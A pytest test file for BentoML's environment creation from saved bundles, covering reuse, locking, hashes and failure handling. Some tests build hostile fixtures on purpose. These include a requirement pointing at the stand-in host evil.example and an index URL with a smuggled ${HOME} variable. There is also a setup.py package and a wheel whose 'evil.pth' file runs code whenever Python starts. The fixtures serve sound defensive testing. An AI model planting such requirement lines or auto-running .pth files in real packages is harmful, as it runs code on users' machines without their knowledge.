"""Real environments of real bundles, with what comes from an index."""

from __future__ import annotations

import importlib.metadata
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from bentoml._util import proc
from bentoml.deploy.environment import (
    Environment,
    EnvironmentOptions,
    command_in,
    create_environment,
    list_environments,
)
from bentoml.exceptions import (
    BentoMLConfigException,
    BentoMLException,
    BundleIntegrityException,
    BundleSignatureException,
    InvalidArgument,
)
from bentoml.saved_bundle.integrity import write_digests
from bentoml.saved_bundle.locking import lock_bundle
from tests.cli.circle_bundle import ENV, PI, save_circle

if TYPE_CHECKING:
    from collections.abc import Mapping

UV = Path(sys.executable).with_name("uv")
CREATE = """
import sys
import zipfile
from bentoml.deploy.environment import create_environment

print(create_environment(sys.argv[1], None, lambda line: print(line, file=sys.stderr, flush=True)).is_new)
"""


@pytest.fixture(autouse=True)
def uv_on_path(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", os.pathsep.join([str(UV.parent), os.environ["PATH"]]))


def answer(environment: Environment, bundle: Path) -> list[str]:
    """What the bundle says when it runs inside of an environment."""
    words = ["run", str(bundle), "pi", "--quiet", "--input", "{}"]
    argv, variables = command_in(environment, words, os.environ)
    done = subprocess.run(argv, env=variables, capture_output=True, text=True, timeout=60, check=True)
    said: list[str] = json.loads(done.stdout)
    return said


def changed(bundle: Path, target: Path, files: Mapping[str, str]) -> Path:
    """A copy of a bundle that was saved with other files."""
    shutil.copytree(bundle, target)
    for name, text in files.items():
        (target / name).write_text(text)
    write_digests(target)
    return target


def lines_of(bundle: Path, *more: str) -> str:
    """Text of requirements.txt with more lines."""
    return (bundle / "requirements.txt").read_text() + "".join(f"{line}\n" for line in more)


def test_create_environment_makes_one_that_bundles_with_the_same_requirements_share(
    circle: Path, bentoml_home: Path, tmp_path: Path
) -> None:
    said: list[str] = []
    made = create_environment(circle, on_line=said.append)
    assert made.is_new
    assert made.home.path.parent == bentoml_home / "environments"
    assert answer(made, circle) == [PI, str(made.home.path)]
    assert said[1].startswith("Making an environment for Circle:1.0 with Python 3.")
    assert said[1].endswith("and uv, from requirements.txt")
    assert " + mpmath==1.3.0" in said
    other = save_circle(tmp_path / "project", tmp_path / "other", version="2.0")
    said.clear()
    again = create_environment(other, on_line=said.append)
    assert (again.is_new, again.home, again.record, said) == (False, made.home, made.record, [])
    assert list_environments() == [made.home]
    different = save_circle(tmp_path / "project", tmp_path / "different", env=f"{ENV[:-1]}, 'idna']")
    assert create_environment(different).home != made.home
    assert len(list_environments()) == 2


@pytest.mark.slow
def test_create_environment_with_pip_in_a_directory_of_ones_own(circle: Path, tmp_path: Path) -> None:
    home = tmp_path / "a directory" / "environment"
    said: list[str] = []
    options = EnvironmentOptions(path=home, installer="pip", only_wheels=True)
    made = create_environment(circle, options, said.append)
    assert (made.is_new, made.record.installer, made.home.path) == (True, "pip", home)
    assert answer(made, circle) == [PI, str(home)]
    assert any(line.startswith("Successfully installed") for line in said)
    assert not create_environment(circle, options).is_new
    assert list_environments() == []


def test_create_environment_in_a_directory_of_ones_own_never_removes_what_others_have_put_there(
    circle: Path, tmp_path: Path
) -> None:
    home = tmp_path / "environment"
    options = EnvironmentOptions(path=home)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "letter").write_text("keep")
    for force in (False, True):
        with pytest.raises(BentoMLException, match="holds something else than an environment; name an empty directory"):
            create_environment(circle, EnvironmentOptions(path=tmp_path / "mine", force=force))
    assert (tmp_path / "mine" / "letter").read_text() == "keep"
    with pytest.raises(BentoMLException, match="lies in the bundle"):
        create_environment(circle, EnvironmentOptions(path=circle / "environment"))
    first = create_environment(circle, options)
    (home / "extra").touch()
    assert not create_environment(circle, options).is_new
    different = changed(circle, tmp_path / "different", {"requirements.txt": lines_of(circle, "idna")})
    with pytest.raises(BentoMLException, match=r"holds another environment, made for Circle:1\.0; .* --force"):
        create_environment(different, options)
    replaced = create_environment(different, EnvironmentOptions(path=home, force=True))
    assert replaced.record.digest != first.record.digest
    assert not (home / "extra").exists()


def test_create_environment_of_a_changed_or_unsigned_bundle_installs_nothing(
    circle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bundle = tmp_path / "bundle"
    shutil.copytree(circle, bundle)
    (bundle / "requirements.txt").write_text("evil @ https://evil.example/evil.tar.gz\n")
    with pytest.raises(BundleIntegrityException, match=r"requirements\.txt was changed"):
        create_environment(bundle)
    (tmp_path / "key.pem").write_text(
        "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=\n"
        "-----END PUBLIC KEY-----\n"
    )
    monkeypatch.setenv("BENTOML__BUNDLES__REQUIRE_SIGNATURE", "true")
    monkeypatch.setenv("BENTOML__BUNDLES__TRUSTED_KEYS", json.dumps([str(tmp_path / "key.pem")]))
    with pytest.raises(BundleSignatureException, match=r"is not signed.*bundles\.require_signature is on"):
        create_environment(circle, EnvironmentOptions(verify=False))
    assert list_environments() == []


def test_create_environment_of_hostile_requirements_runs_no_installer(circle: Path, tmp_path: Path) -> None:
    said: list[str] = []
    text = lines_of(circle, f"--index-url=https://evil.example/${{HOME}} --target={tmp_path}")
    with pytest.raises(InvalidArgument, match=r"^requirements\.txt, line 3: \$\{HOME\} stands for a variable"):
        create_environment(changed(circle, tmp_path / "b1", {"requirements.txt": text}), on_line=said.append)
    (tmp_path / "b2").mkdir()
    source = changed(circle, tmp_path / "b2" / "bundle", {"requirements.txt": lines_of(circle, "./evil")})
    (source / "evil").mkdir()
    (source / "evil" / "setup.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    write_digests(source)
    with pytest.raises(BentoMLException, match=r"evil is no wheel, and only wheels are wanted"):
        create_environment(source, EnvironmentOptions(only_wheels=True), said.append)
    assert said == []
    assert not (tmp_path / "ran").exists()
    assert list_environments() == []


def test_create_environment_of_wheels_alone_runs_nothing_of_them(circle: Path, tmp_path: Path) -> None:
    """A wheel can bring a file that each start of its Python runs: none may start before somebody trusts it."""
    bundle = tmp_path / "bundle"
    shutil.copytree(circle, bundle)
    with zipfile.ZipFile(bundle / "evil-1.0-py3-none-any.whl", "w") as wheel:
        wheel.writestr("evil.pth", f"import pathlib; pathlib.Path({str(tmp_path / 'ran')!r}).touch()\n")
        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        wheel.writestr("evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    (bundle / "requirements.txt").write_text(lines_of(circle, "./evil-1.0-py3-none-any.whl"))
    write_digests(bundle)
    made = create_environment(bundle, EnvironmentOptions(only_wheels=True))
    assert create_environment(bundle).home == made.home
    assert not (tmp_path / "ran").exists()
    proc.run([str(made.home.python), "-c", ""], check=True)
    assert (tmp_path / "ran").exists()


def test_create_environment_of_a_bundle_that_needs_conda_says_what_to_do(circle: Path, tmp_path: Path) -> None:
    bundle = save_circle(tmp_path / "project", tmp_path / "bundle", env="conda_dependencies=['gdal=3.8']")
    with pytest.raises(BentoMLException, match=r"declares conda dependencies \(gdal=3\.8\), .* conda env create -f /"):
        create_environment(bundle)


def test_create_environment_says_that_setup_sh_is_not_run(tmp_path: Path) -> None:
    script = f"#!/bin/sh\\ntouch {tmp_path}/ran\\n"
    bundle = save_circle(tmp_path / "project", tmp_path / "bundle", env=f"setup_sh='{script}'")
    said: list[str] = []
    create_environment(bundle, on_line=said.append)
    assert said[0].startswith("The bundle has a setup.sh, which is not run here")
    assert not (tmp_path / "ran").exists()


def test_create_environment_takes_the_lock_with_its_hashes(tmp_path: Path) -> None:
    bundle = save_circle(tmp_path / "project", tmp_path / "bundle", env="pip_packages=['idna']")
    made = create_environment(bundle)
    assert made.record.source == "requirements.lock"
    here = importlib.metadata.version("starlette")  # which the library needs, in any newer version, too
    assert [path.name for path in made.home.path.glob("lib/*/*/starlette-*")] == [f"starlette-{here}.dist-info"]
    lock_bundle(bundle, "uv")
    said: list[str] = []
    with_hashes = create_environment(bundle, on_line=said.append)
    assert with_hashes.record.source == "requirements.lock"
    assert with_hashes.home != made.home
    locked = (bundle / "requirements.lock").read_text()
    changed_hashes = re.sub("(?<=sha256:)[0-9a-f]{8}", "00000000", locked)
    wrong = changed(bundle, tmp_path / "wrong", {"requirements.lock": changed_hashes})
    with pytest.raises(
        BentoMLException, match=r"(?s)uv pip install .*--require-hashes.* failed .*([Hh]ash|sha256:0{8})"
    ):
        create_environment(wrong)
    without = re.sub(r"(?m)^(idna==\S+) \\\n(    --hash=\S+( \\)?\n)+", r"\1\n", locked)
    assert without != locked
    with pytest.raises(InvalidArgument, match=r"idna==\S+ has no --hash, while others have one"):
        create_environment(changed(bundle, tmp_path / "without", {"requirements.lock": without}))
    with pytest.raises(BentoMLConfigException, match=r"requirements\.lock is no lock of a bundle"):
        create_environment(changed(bundle, tmp_path / "no lock", {"requirements.lock": f"{locked}-r other.txt\n"}))


def test_create_environment_takes_a_lock_for_every_machine(tmp_path: Path) -> None:
    bundle = save_circle(tmp_path / "project", tmp_path / "bundle", env="pip_packages=['idna']")
    lock_bundle(bundle, platform="any")
    assert " ; sys_platform != 'win32'" in (bundle / "requirements.lock").read_text()  # uvloop
    made = create_environment(bundle)
    assert made.record.source == "requirements.lock"
    assert list(made.home.path.glob("lib/*/*/uvloop-*"))


def test_create_environment_leaves_a_lock_that_does_not_fit_and_says_why(circle: Path, tmp_path: Path) -> None:
    said: list[str] = []
    assert create_environment(circle, on_line=said.append).record.source == "requirements.txt"
    assert re.match(r"requirements\.lock is not complete: .*mpmath.*; requirements\.txt is taken", said[0])
    said.clear()
    text = (circle / "requirements.lock").read_text()
    other = re.sub("(?m)^# made for: .*$", "# made for: cpython-39-arm arm", text)
    bundle = changed(circle, tmp_path / "bundle", {"requirements.lock": other})
    create_environment(bundle, EnvironmentOptions(force=True), said.append)
    assert said[0].startswith("requirements.lock was made for cpython-39-arm arm, and this is ")


def test_create_environment_that_fails_shows_the_last_lines_and_leaves_nothing(circle: Path, tmp_path: Path) -> None:
    text = lines_of(circle, "--no-index")
    bundle = changed(circle, tmp_path / "bundle", {"requirements.txt": text})
    with pytest.raises(BentoMLException, match=r"(?s)uv pip install .* failed with exit code 1:\n.*mpmath"):
        create_environment(bundle)
    assert list_environments() == []


def test_create_environment_that_is_killed_is_not_there_and_is_made_by_the_next(circle: Path) -> None:
    process = subprocess.Popen([sys.executable, "-c", CREATE, str(circle)], stderr=subprocess.PIPE, text=True)
    assert process.stderr is not None
    while not process.stderr.readline().startswith("Making an environment"):
        assert process.poll() is None
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=60)
    (home,) = list_environments()
    assert (home.record(), home.is_begun) == (None, True)
    made = create_environment(circle)
    assert (made.is_new, made.home) == (True, home)
    assert answer(made, circle)[0] == PI


def test_create_environment_twice_at_the_same_time_makes_one(circle: Path) -> None:
    argv = [sys.executable, "-c", CREATE, str(circle)]
    both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    said = [process.communicate(timeout=100) for process in both]
    assert sorted(stdout.strip() for stdout, _ in said) == ["False", "True"], said
    assert sorted(process.returncode for process in both) == [0, 0]
    assert answer(create_environment(circle), circle)[0] == PI


def test_create_environment_for_the_package_of_a_bundle_carries_the_running_library(
    circle: Path, tmp_path: Path
) -> None:
    package = tmp_path / "site-packages" / "Circle"
    shutil.copytree(circle / "Circle", package)
    (tmp_path / "site-packages" / "requirements.txt").write_text("not-of-this-bundle\n")
    made = create_environment(package)
    assert made.record.source == "bentoml.yml"
    assert answer(made, package)[0] == PI
    assert not create_environment(package).is_new
